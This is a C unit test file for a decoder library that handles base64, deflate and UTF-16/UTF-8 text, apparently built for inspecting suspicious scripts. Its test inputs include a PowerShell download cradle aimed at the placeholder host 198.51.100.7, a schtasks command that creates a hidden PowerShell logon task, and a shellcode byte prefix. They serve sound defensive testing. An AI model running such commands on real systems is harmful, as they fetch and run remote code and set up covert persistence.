#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <zlib.h>

#include "base/decode-text.h"
#include "unit/hex.h"
#include "base/utf16.h"

#define ROOM	65536

typedef bool decoder(struct view, struct buf *);

struct desk {
	struct budget	 budget;
	struct buf	 out;
};

static int
setup(void **state)
{
	struct desk *d = calloc(1, sizeof(*d));

	if (d == NULL)
		return -1;
	budget_init(&d->budget, NULL, 16u << 20);
	buf_init(&d->out, &d->budget, ROOM);
	*state = d;
	return 0;
}

static int
teardown(void **state)
{
	struct desk *d = *state;
	size_t left;

	buf_free(&d->out);
	left = d->budget.used;
	free(d);
	return left == 0 ? 0 : -1;	/* a leak is a failure */
}

/* want NULL: the input is not of that encoding, and out is as it was. */
static void
gives(struct desk *d, decoder *decode, struct view in, const char *want, size_t len)
{
	buf_free(&d->out);
	assert_int_equal(decode(in, &d->out), want != NULL);
	assert_int_equal(d->out.len, want != NULL ? len : 0);
	if (len > 0)
		assert_memory_equal(d->out.p, want, len);
}

static void
gives_text(struct desk *d, decoder *decode, const char *in, const char *want)
{
	gives(d, decode, view_str(in), want, want != NULL ? strlen(want) : 0);
}

#define BYTES(s)	((struct view){ (const uint8_t *)(s), sizeof(s) - 1 })

/* ---- Base64 ---- */

static void
base64_is_what_the_rfc_says(void **state)
{
	struct desk *d = *state;

	/* RFC 4648 10 */
	gives_text(d, base64_decode, "Zg==", "f");
	gives_text(d, base64_decode, "Zm8=", "fo");
	gives_text(d, base64_decode, "Zm9v", "foo");
	gives_text(d, base64_decode, "Zm9vYg==", "foob");
	gives_text(d, base64_decode, "Zm9vYmE=", "fooba");
	gives_text(d, base64_decode, "Zm9vYmFy", "foobar");
	gives(d, base64_decode, view_str("+/+/AA=="), "\xfb\xff\xbf\0", 4);
}

static void
base64_may_have_blanks_and_no_padding(void **state)
{
	struct desk *d = *state;

	gives_text(d, base64_decode, "Zg", "f");
	gives_text(d, base64_decode, "Zm8", "fo");
	gives_text(d, base64_decode, "Zm9vYg=", "foob");
	gives_text(d, base64_decode, " Z m\t9v\r\nYmFy \n", "foobar");
	gives_text(d, base64_decode, "Zg = \n=\n", "f");
}

static void
what_is_no_base64_gives_nothing(void **state)
{
	struct desk *d = *state;

	gives_text(d, base64_decode, "", NULL);
	gives_text(d, base64_decode, " \r\n", NULL);
	gives_text(d, base64_decode, "====", NULL);
	gives_text(d, base64_decode, "Z", NULL);
	gives_text(d, base64_decode, "Zm9vY", NULL);
	gives_text(d, base64_decode, "Zg==Zg==", NULL);
	gives_text(d, base64_decode, "Zg===", NULL);
	gives_text(d, base64_decode, "Zm9v!", NULL);
	gives_text(d, base64_decode, "C:\\Windows", NULL);
	gives(d, base64_decode, BYTES("Zm9v\0"), NULL, 0);
	gives(d, base64_decode, BYTES("Zm9\xc3\xa9"), NULL, 0);
}

/* Every length, against another's encoder. */
static void
base64_of_every_length(void **state)
{
	static const char alphabet[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	struct desk *d = *state;
	uint8_t bytes[2000];
	char text[2800];

	for (size_t i = 0; i < sizeof(bytes); i++)
		bytes[i] = (uint8_t)(i * 167 + (i >> 5));
	for (size_t n = 1; n <= sizeof(bytes); n += n < 800 ? 1 : 97) {
		size_t len = 0;

		for (size_t bit = 0; bit < n * 8; bit += 6) {
			unsigned int v = (unsigned int)bytes[bit / 8] << 8 |
			    (bit / 8 + 1 < n ? bytes[bit / 8 + 1] : 0);

			text[len++] = alphabet[v >> (10 - bit % 8) & 63];
		}
		text[len] = '\0';
		gives(d, base64_decode, view_str(text), (const char *)bytes, n);
	}
}

static void
base64_is_cut_where_there_is_no_room(void **state)
{
	struct desk *d = *state;
	char text[4096];

	memset(text, 'A', sizeof(text));
	buf_free(&d->out);
	d->out.max = 1000;
	assert_true(base64_decode((struct view){ (const uint8_t *)text, sizeof(text) }, &d->out));
	assert_int_equal(d->out.len, 1000);
}

/* ---- Deflate ---- */

/* window as deflateInit2() takes it. */
static struct view
deflated(struct view v, int window, uint8_t *out, size_t size)
{
	z_stream z = { .next_in = (Bytef *)(uintptr_t)v.p, .avail_in = (uInt)v.len,
	    .next_out = out, .avail_out = (uInt)size };

	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window, 9, Z_DEFAULT_STRATEGY), Z_OK);
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	assert_int_equal(deflateEnd(&z), Z_OK);
	return (struct view){ out, z.total_out };
}

static const int windows[] = { 15 + 16, 15, -15 };	/* gzip, zlib, raw */

static void
all_kinds_of_deflate_are_known(void **state)
{
	struct desk *d = *state;
	const char *text = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
	uint8_t packed[256];

	for (size_t i = 0; i < 3; i++)
		gives(d, inflate_any, deflated(view_str(text), windows[i], packed, sizeof(packed)),
		    text, strlen(text));
}

static void
vectors_of_another_maker_inflate(void **state)
{
	struct desk *d = *state;
	uint8_t in[64];
	size_t n;

	/* Python's gzip.compress(b"calc", mtime=0), zlib.compress(b"calc"), and raw. */
	n = hex("1f8b08000000000002034b4ecc490600af32315c04000000", in, sizeof(in));
	gives(d, inflate_any, (struct view){ in, n }, "calc", 4);
	n = hex("789c4b4ecc49060003ee0194", in, sizeof(in));
	gives(d, inflate_any, (struct view){ in, n }, "calc", 4);
	/* A wrong checksum does not hide the text. */
	n = hex("789c4b4ecc490600ffffffff", in, sizeof(in));
	gives(d, inflate_any, (struct view){ in, n }, "calc", 4);
	n = hex("4b4ecc490600", in, sizeof(in));
	gives(d, inflate_any, (struct view){ in, n }, "calc", 4);
}

static void
what_is_torn_gives_its_beginning(void **state)
{
	struct desk *d = *state;
	struct view whole;
	uint8_t packed[256], *part;
	size_t before = 0;
	const char *text = "schtasks /create /tn Updater /tr \"powershell -w hidden\" /sc onlogon";

	for (size_t k = 0; k < 3; k++) {
		whole = deflated(view_str(text), windows[k], packed, sizeof(packed));
		for (size_t n = 0; n < whole.len; n++) {
			part = malloc(n + 1);
			assert_non_null(part);
			memcpy(part, packed, n);
			buf_free(&d->out);
			/* Raw deflate is only proven by its end. */
			if (inflate_any((struct view){ part, n }, &d->out))
				assert_true(k < 2);
			assert_true(d->out.len <= strlen(text));
			if (d->out.len > 0)
				assert_memory_equal(d->out.p, text, d->out.len);
			before += d->out.len;
			free(part);
		}
	}
	assert_true(before > 0);
}

static void
what_is_no_deflate_gives_nothing(void **state)
{
	struct desk *d = *state;

	gives_text(d, inflate_any, "", NULL);
	gives_text(d, inflate_any, "\x1f\x8b", NULL);
	gives_text(d, inflate_any, "x\x9c", NULL);
	gives_text(d, inflate_any, "schtasks /create /tn x", NULL);
	gives_text(d, inflate_any, "MZ\x90", NULL);
	gives(d, inflate_any, BYTES("\x1f\x8b\x08\0\0\0\0\0\0\3\xff\xff\xff\xff\xff\xff"), NULL, 0);
	/* What is in out already stays. */
	buf_free(&d->out);
	assert_true(buf_add(&d->out, view_str("before")));
	assert_false(inflate_any(view_str("schtasks"), &d->out));
	assert_int_equal(d->out.len, 6);
}

static void
a_bomb_stops_where_there_is_no_room(void **state)
{
	struct desk *d = *state;
	uint8_t *zeros = calloc(1, 16u << 20), packed[64 << 10];
	struct view v;

	assert_non_null(zeros);
	for (size_t k = 0; k < 3; k++) {
		v = deflated((struct view){ zeros, 16u << 20 }, windows[k], packed, sizeof(packed));
		buf_free(&d->out);
		assert_true(inflate_any(v, &d->out));
		assert_int_equal(d->out.len, ROOM);
		assert_true(d->budget.peak < 4 * ROOM);
	}
	free(zeros);
}

static void
a_spent_budget_is_no_fault(void **state)
{
	struct desk *d = *state;
	uint8_t packed[64];
	struct view v = deflated(view_str("calc"), 15, packed, sizeof(packed));

	buf_free(&d->out);
	for (size_t limit = 0; limit < 60000; limit += 977) {
		d->budget.limit = limit;
		inflate_any(v, &d->out);
		base64_decode(view_str("Y2FsYw=="), &d->out);
		text_of(BYTES("c\0a\0l\0c\0"), &d->out);
		buf_free(&d->out);
		assert_int_equal(d->budget.used, 0);
	}
}

/* ---- Text ---- */

static void
text_is_known_in_either_form(void **state)
{
	struct desk *d = *state;

	gives_text(d, text_of, "whoami /all\r\n", "whoami /all\r\n");
	gives_text(d, text_of, "\xef\xbb\xbfwhoami", "whoami");
	gives_text(d, text_of, "echo \xd0\x9f\xd1\x80\xd0\xb8", "echo \xd0\x9f\xd1\x80\xd0\xb8");
	gives(d, text_of, BYTES("I\0E\0X\0"), "IEX", 3);
	gives(d, text_of, BYTES("\xff\xfeI\0E\0X\0"), "IEX", 3);
	gives(d, text_of, BYTES("\xfe\xff\0I\0E\0X"), "IEX", 3);
	/* A NUL ends a C string. */
	gives(d, text_of, BYTES("IEX\0"), "IEX", 3);
	gives(d, text_of, BYTES("I\0E\0X\0\0\0"), "IEX", 3);
}

/* Letters of other languages have no zero bytes; quotes, blanks and variables have. */
static void
utf16_of_any_language_is_text(void **state)
{
	struct desk *d = *state;
	/* echo "你好世界" */
	static const char chinese[] = "e\0c\0h\0o\0 \0\"\0\x60\x4f\x7d\x59\x16\x4e\x4c\x75\"\0";
	/* $п = 'привет' */
	static const char russian[] =
	    "$\0\x3f\x04 \0=\0 \0'\0\x3f\x04\x40\x04\x38\x04\x32\x04\x35\x04\x42\x04'\0";

	gives(d, text_of, BYTES(chinese), "echo \"\xe4\xbd\xa0\xe5\xa5\xbd\xe4\xb8\x96\xe7\x95\x8c\"",
	    19);
	gives(d, text_of, BYTES(russian), "$\xd0\xbf = '\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5"
	    "\xd1\x82'", 20);
}

static void
bytes_that_are_no_text_are_none(void **state)
{
	struct desk *d = *state;

	gives_text(d, text_of, "", NULL);
	gives(d, text_of, BYTES("\0"), NULL, 0);
	gives(d, text_of, BYTES("\xef\xbb\xbf"), NULL, 0);
	gives(d, text_of, BYTES("\xff\xfe"), NULL, 0);
	gives(d, text_of, BYTES("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@"), NULL, 0);
	gives(d, text_of, BYTES("\xfc\xe8\x82\0\0\0`\x89\xe5\x31\xc0\x64\x8bP0\x8bR\x0c"), NULL, 0);
	gives(d, text_of, BYTES("\1\0\2\0\3\0\4\0"), NULL, 0);
	gives(d, text_of, BYTES("\x80\x81\x82"), NULL, 0);
}

/* One malformed byte does not hide a script. */
static void
a_few_odd_bytes_are_shown_as_such(void **state)
{
	struct desk *d = *state;

	gives(d, text_of, BYTES("schtasks /delete\0 /tn \xff" "Backup /f"), NULL, 0);
	gives(d, text_of, BYTES("schtasks /delete\0 /s fs02.corp.example /tn \xff" "Backup /f"),
	    "schtasks /delete\xef\xbf\xbd /s fs02.corp.example /tn \xef\xbf\xbd" "Backup /f", 57);
	gives(d, text_of, BYTES("s\0c\0h\0t\0a\0s\0k\0s\0 \0/\0q\0u\0e\0r\0y\0 \0/\0v\0 \0\x00\xd8"
	    "/\0f\0"), "schtasks /query /v \xef\xbf\xbd/f", 24);
}

static void
text_is_cut_between_characters(void **state)
{
	struct desk *d = *state;

	for (size_t max = 0; max <= 9; max++) {
		buf_free(&d->out);
		d->out.max = max;
		assert_true(text_of(view_str("\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac"), &d->out));
		assert_int_equal(d->out.len, max / 3 * 3);
	}
}

static void
a_beginning_ends_with_a_character(void **state)
{
	const struct view v = view_str("a\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80");
	static const size_t want[] = { 0, 1, 1, 3, 3, 3, 6, 6, 6, 6, 10, 10 };

	(void)state;
	for (size_t max = 0; max < sizeof(want) / sizeof(want[0]); max++)
		assert_int_equal(text_upto(v, max).len, want[max]);
	/* Malformed UTF-8 is cut, too. */
	assert_int_equal(text_upto(view_str("\x80\x80\x80\x80\x80\x80\x80\x80"), 6).len, 3);
}

static void
every_truncation_is_safe(void **state)
{
	static const uint8_t some[] =
	    "\xff\xfe$\0a\0 \0=\0 \0'\0\x3f\x04\x40\x04\x3d\xd8\x00\xde'\0;\0\xef\xbb\xbf\xe2\x82";
	struct desk *d = *state;
	uint8_t *cut;

	for (size_t from = 0; from < sizeof(some); from++)
		for (size_t n = 0; n + from <= sizeof(some); n++) {
			cut = malloc(n + (n == 0));
			assert_non_null(cut);
			memcpy(cut, some + from, n);
			buf_free(&d->out);
			if (text_of((struct view){ cut, n }, &d->out))
				assert_true(utf8_valid(buf_view(&d->out)));
			base64_decode((struct view){ cut, n }, &d->out);
			inflate_any((struct view){ cut, n }, &d->out);
			free(cut);
		}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(base64_is_what_the_rfc_says, setup, teardown),
		cmocka_unit_test_setup_teardown(base64_may_have_blanks_and_no_padding, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(what_is_no_base64_gives_nothing, setup, teardown),
		cmocka_unit_test_setup_teardown(base64_of_every_length, setup, teardown),
		cmocka_unit_test_setup_teardown(base64_is_cut_where_there_is_no_room, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(all_kinds_of_deflate_are_known, setup, teardown),
		cmocka_unit_test_setup_teardown(vectors_of_another_maker_inflate, setup, teardown),
		cmocka_unit_test_setup_teardown(what_is_torn_gives_its_beginning, setup, teardown),
		cmocka_unit_test_setup_teardown(what_is_no_deflate_gives_nothing, setup, teardown),
		cmocka_unit_test_setup_teardown(a_bomb_stops_where_there_is_no_room, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(a_spent_budget_is_no_fault, setup, teardown),
		cmocka_unit_test_setup_teardown(text_is_known_in_either_form, setup, teardown),
		cmocka_unit_test_setup_teardown(utf16_of_any_language_is_text, setup, teardown),
		cmocka_unit_test_setup_teardown(bytes_that_are_no_text_are_none, setup, teardown),
		cmocka_unit_test_setup_teardown(a_few_odd_bytes_are_shown_as_such, setup, teardown),
		cmocka_unit_test_setup_teardown(text_is_cut_between_characters, setup, teardown),
		cmocka_unit_test(a_beginning_ends_with_a_character),
		cmocka_unit_test_setup_teardown(every_truncation_is_safe, setup, teardown),
	};

	return cmocka_run_group_tests_name("decode_text", tests, NULL, NULL);
}
